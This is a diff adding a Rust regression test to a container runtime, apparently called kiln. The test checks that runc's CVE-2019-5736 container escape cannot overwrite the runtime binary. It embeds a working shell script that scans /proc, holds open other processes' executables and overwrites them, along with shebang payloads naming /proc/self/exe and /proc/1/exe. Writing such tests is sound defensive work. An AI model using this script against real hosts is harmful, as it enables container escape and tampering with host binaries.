@@ -1703,3 +1703,160 @@ fn images_deeper_than_a_mount_page_build_run_and_commit() {
         "75\n149\n"
     );
 }
+
+/// The container's side of runc's CVE-2019-5736: grab the runtime's binary
+/// through `/proc/PID/exe` of a process in the container that is running
+/// it, and write the host's file once that process is gone.
+const EXE_THIEF: &str = r#"#!/bin/sh
+bb=$(stat -L -c %s /bin/busybox)
+while [ ! -e /tmp/thief.done ]; do
+  for d in /proc/[0-9]*; do
+    [ "${d#/proc/}" = "$$" ] && continue
+    s=$(stat -L -c %s "$d/exe" 2>/dev/null) || continue
+    [ "$s" != "$bb" ] || continue
+    echo "found ${d#/proc/}" >> /tmp/thief.log
+    (
+      exec 3<"$d/exe" || exit 1
+      while [ -e "$d" ]; do :; done
+      echo pwned > /proc/self/fd/3 && echo WROTE >> /tmp/thief.log
+      touch /tmp/thief.done
+    ) 2>>/tmp/thief.log
+  done
+done
+exec sleep 1000
+"#;
+
+/// runc's CVE-2019-5736 and its variants, tried for real against a copy of
+/// kiln's binary: a command whose shebang names `/proc/self/exe` (the
+/// runtime's own binary while it execs the command) or `/proc/1/exe` (the
+/// `--init` process, kiln's binary for the container's life), started by
+/// `kiln exec` next to a process waiting to steal and overwrite that
+/// binary, and by `kiln run` as the container's first command. Every exec
+/// must fail, nothing in the container may open the binary, and the
+/// binary must stay byte for byte the same.
+#[test]
+fn shebang_attacks_on_the_runtime_binary_never_reach_the_host_file() {
+    let sandbox = Sandbox::new();
+    let kiln_copy = sandbox.work().join("kiln-under-attack");
+    std::fs::copy(kiln_e2e::kiln_bin(), &kiln_copy).expect("copy the kiln binary");
+    let before = std::fs::read(&kiln_copy).expect("read the copy");
+    let kiln = |args: &[&str]| {
+        let mut c = Command::new(&kiln_copy);
+        c.args(args)
+            .env("KILN_ROOT", sandbox.root())
+            .env("HOME", sandbox.home());
+        c
+    };
+    // Were kiln's binary ever started through one of these, it would fail
+    // with its own usage error (exit 2, "unrecognized subcommand"), not
+    // with the exec errors (127, 126) checked below; the thief, next to it,
+    // is the second line of evidence.
+    let self_exe = "#!/proc/self/exe\n";
+    let init_exe = "#!/proc/1/exe\n";
+    let dockerfile = format!(
+        "FROM {}\nCOPY thief self-exe init-exe probe /\nRUN chmod 755 /thief /self-exe /init-exe /probe\n",
+        busybox_ref()
+    );
+    let ctx = context(
+        &sandbox,
+        "cve-2019-5736",
+        &[
+            ("Dockerfile", dockerfile.as_str()),
+            ("thief", EXE_THIEF),
+            ("self-exe", self_exe),
+            ("init-exe", init_exe),
+        ],
+    );
+    std::fs::copy(kiln_e2e::probe_bin(), ctx.join("probe")).expect("copy the probe");
+    run_ok(&mut kiln(&[
+        "build",
+        "-q",
+        "-t",
+        "test/thief:1",
+        path_str(&ctx),
+    ]));
+    run_ok(&mut kiln(&[
+        "run",
+        "-d",
+        "--init",
+        "--name",
+        "thief",
+        "test/thief:1",
+        "/thief",
+    ]));
+    // Runs ARGS with stdin held open for two seconds, then closed.
+    let attempt = |args: &[&str]| {
+        let mut child = kiln(args)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("start kiln");
+        let stdin = child.stdin.take();
+        std::thread::sleep(Duration::from_secs(2));
+        drop(stdin);
+        child.wait_with_output().expect("wait for kiln")
+    };
+    for (args, code, error) in [
+        (
+            &["exec", "-i", "thief", "/self-exe"][..],
+            127,
+            "no such file or directory",
+        ),
+        (
+            &["exec", "-i", "thief", "/init-exe"][..],
+            126,
+            "permission denied",
+        ),
+        (
+            &["run", "--rm", "-i", "test/thief:1", "/self-exe"][..],
+            127,
+            "no such file or directory",
+        ),
+    ] {
+        let out = attempt(args);
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(code), "{args:?}: {stderr}");
+        assert!(stderr.contains(error), "{args:?}: {stderr}");
+    }
+    // The --init process is kiln's binary, out of the container's reach.
+    let peek = kiln(&["exec", "thief", "sh", "-c", "head -c 4 /proc/1/exe"])
+        .output()
+        .expect("kiln exec");
+    assert!(!peek.status.success(), "read /proc/1/exe");
+    let thief_log = || {
+        let out = kiln(&[
+            "exec",
+            "thief",
+            "sh",
+            "-c",
+            "cat /tmp/thief.log 2>/dev/null; true",
+        ])
+        .output()
+        .expect("kiln exec");
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let log = thief_log();
+    assert!(!log.contains("found"), "the thief saw a binary: {log}");
+    // The control: a binary of the container's own that the thief can
+    // reach is stolen and overwritten, so the thief was alive and able.
+    run_ok(&mut kiln(&["exec", "thief", "/probe", "sleep", "2"]));
+    let mut log = String::new();
+    for _ in 0..50 {
+        log = thief_log();
+        if log.contains("WROTE") {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let probe_now = kiln(&["exec", "thief", "cat", "/probe"])
+        .output()
+        .expect("kiln exec");
+    run_ok(&mut kiln(&["rm", "-f", "thief"]));
+    assert!(log.contains("WROTE"), "the control was not stolen: {log}");
+    assert_eq!(String::from_utf8_lossy(&probe_now.stdout), "pwned\n");
+    assert!(
+        std::fs::read(&kiln_copy).expect("read the copy") == before,
+        "the binary changed; thief log: {log}"
+    );
+}
